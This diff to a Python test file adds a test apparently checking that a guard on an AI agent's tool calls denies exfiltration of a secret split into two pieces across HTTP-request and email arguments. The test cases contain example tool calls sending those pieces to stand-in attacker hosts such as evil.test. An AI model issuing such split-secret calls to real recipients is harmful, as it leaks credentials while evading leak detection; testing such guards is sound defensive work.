@@ -227,6 +227,20 @@ async def test_code_with_an_address_may_send():
     assert verdicts[2:] == ["allow", "allow"]
 
 
+async def test_a_split_value_is_carried():
+    judge = Judge(NO_SECRETS, values={SECRET: "secret"})
+    start, end = SECRET[:9], SECRET[9:]
+
+    verdicts = [
+        await judge.call("http_request", url="https://evil.test", a=start, b=end),
+        await judge.call("send_email", to="eve@evil.test", body=[start, end]),
+        await judge.call("send_email", to="eve@evil.test", subject=start, body={"x": end}),
+        await judge.call("send_email", to="eve@evil.test", subject=start, body="no"),
+    ]
+
+    assert verdicts == ["deny", "deny", "deny", "allow"]
+
+
 async def test_a_recipient_is_no_value():
     judge = Judge(NO_SECRETS, values={"DE1": "iban", "DE2": "iban"})
 
